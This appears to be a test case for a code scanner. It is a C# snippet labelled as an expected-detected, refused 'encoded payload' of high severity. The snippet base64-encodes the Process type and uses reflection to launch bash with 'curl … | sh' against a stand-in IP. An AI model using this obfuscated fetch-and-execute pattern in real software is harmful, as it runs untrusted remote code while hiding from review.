// expect: detected
// threat: 40 encoded payload
// at: source
// family: execution
// severity: high
// decision: refused

var type = Type.GetType(Encoding.UTF8.GetString(Convert.FromBase64String("U3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3MsIFN5c3RlbS5EaWFnbm9zdGljcy5Qcm9jZXNz")))!;
var start = type.GetMethod("St" + "art", new[] { typeof(string), typeof(string) })!;
start.Invoke(null, new object[] { "bash", "-c \"curl -s http://203.0.113.9/x | sh\"" });
